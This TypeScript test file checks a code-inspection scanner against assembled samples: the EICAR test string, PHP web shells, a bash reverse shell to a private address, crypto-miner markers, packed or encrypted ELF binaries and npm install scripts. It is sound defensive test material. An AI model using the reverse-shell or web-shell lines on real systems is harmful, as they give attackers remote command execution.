/** Problem code, put together while the test runs: nothing in this file is what it looks for. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { codeInspector } from "./code-inspector.ts";

const join = (...parts: readonly string[]): string => parts.join("");
const eicar = join("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!", "$H+H*");

/** A program of one segment of code. */
function elf(code: Uint8Array, tail = ""): Uint8Array {
  const head = Buffer.alloc(120);
  head.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  head.writeBigUInt64LE(64n, 32);
  head.writeUInt16LE(56, 54);
  head.writeUInt16LE(1, 56);
  head.writeUInt32LE(1, 64);
  head.writeUInt32LE(5, 68);
  head.writeBigUInt64LE(120n, 72);
  head.writeBigUInt64LE(BigInt(code.length), 96);
  return Buffer.concat([head, code, Buffer.from(tail, "latin1")]);
}

/** Bytes of a generator: as random as encrypted ones. */
function randomBytes(length: number): Uint8Array {
  let state = 1;
  return Uint8Array.from({ length }, () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state >>> 24;
  });
}

const plainCode = Buffer.alloc(200_000, "\x48\x89\xe5\x55\x48\x83\xec\x20\xe8\x00\x00\x00\x00", "latin1");

const rows: readonly (readonly [
  why: string,
  path: string,
  content: string | Uint8Array,
  problems: readonly string[],
])[] = [
  ["the test virus", "tmp/e.com", eicar, ["test-virus"]],
  ["the test virus with a line end", "a/e.txt", `${eicar}\r\n`, ["test-virus"]],
  ["a text about the test virus", "a/e.txt", `See: ${eicar}`, []],
  ["a web shell", "var/www/a.php", join("<?php @eval", "($_POST", "['a']); ?>"), ["web-shell"]],
  ["a web shell in capitals", "var/www/a.php", join("<?php SYSTEM", "($_GET", "['a']); ?>"), ["web-shell"]],
  ["an ordinary page", "var/www/a.php", "<?php echo htmlspecialchars($_POST['a']); eval('1'); ?>", []],
  ["a reverse shell", "a/run.sh", join("bash -i >& /dev", "/tcp/10.0.0.1/4444 0>&1"), ["reverse-shell"]],
  ["a shell in a manual", "a/run.sh", join("# bash -i >& /dev", "/tcp/<host>/<port>"), []],
  ["a miner's settings", "a/config.json", join('{"url":"stratum', '+tcp://pool.test:3333"}'), ["miner"]],
  [
    "a miner",
    "usr/bin/x",
    elf(Buffer.concat([plainCode, Buffer.from(join("donate.v2.", "xmrig.com"))])),
    ["miner"],
  ],
  ["an ordinary program", "usr/bin/x", elf(plainCode), []],
  [
    "a packed program",
    "usr/bin/x",
    elf(Buffer.concat([Buffer.from(join("UP", "X!")), randomBytes(200_000)]), join("UP", "X!")),
    ["packed"],
  ],
  ["an encrypted program", "usr/bin/x", elf(randomBytes(300_000)), ["encrypted"]],
  ["a program that ends in its headers", "usr/bin/x", elf(plainCode).subarray(0, 70), []],
  [
    "a package that runs scripts",
    "a/node_modules/b/package.json",
    '{"name":"b","version":"1.0.0","scripts":{"postinstall":"node x"}}',
    ["install-script"],
  ],
  [
    "a package that runs none",
    "a/node_modules/b/package.json",
    '{"name":"b","version":"1.0.0","scripts":{"test":"postinstall"}}',
    [],
  ],
  ["a manifest that is none", "a/node_modules/b/package.json", '{"scripts":{"postinstall":1', []],
];

for (const [why, path, content, problems] of rows) {
  test(`problem code: ${why}`, () => {
    const bytes = typeof content === "string" ? Buffer.from(content, "latin1") : content;
    const head = { path, sizeBytes: bytes.length, mode: path.startsWith("usr/bin/") ? 0o755 : 0o644 };
    assert.ok(codeInspector.wants(head), "wanted");
    const value = codeInspector.inspect(head, viewOf(bytes)) as { problems: string[] } | null;
    assert.deepEqual(value?.problems ?? [], problems);
  });
}

test("problem code: a mark across two windows is found", () => {
  const mark = join("coin", "hive.min.js");
  for (const offset of [262_100, 262_140, 262_143, 262_144]) {
    const bytes = Buffer.alloc(400_000, " ");
    bytes.write(mark, offset, "latin1");
    const value = codeInspector.inspect(
      { path: "a.html", sizeBytes: bytes.length, mode: 0o644 },
      viewOf(bytes),
    );
    assert.deepEqual(value, { problems: ["miner"] }, String(offset));
  }
});

test("problem code: programs of every damage are looked into without an error", () => {
  const whole = elf(randomBytes(150_000));
  for (let at = 4; at < 120; at += 1) {
    const bytes = Buffer.from(whole);
    bytes.fill(0xff, at, at + 8);
    codeInspector.inspect({ path: "x", sizeBytes: bytes.length, mode: 0o755 }, viewOf(bytes));
    codeInspector.inspect({ path: "x", sizeBytes: at, mode: 0o755 }, viewOf(whole.subarray(0, at)));
  }
});

test("problem code: rules of tools for defence are left alone", () => {
  assert.equal(
    codeInspector.wants({ path: "usr/share/yara-rules/x.sh", sizeBytes: 100, mode: 0o755 }),
    false,
  );
  assert.equal(codeInspector.wants({ path: "a/large", sizeBytes: 2 ** 30, mode: 0o755 }), false);
});

function viewOf(bytes: Uint8Array) {
  return {
    sizeBytes: bytes.length,
    read: (offset: number, length: number) => bytes.subarray(offset, offset + length),
  };
}
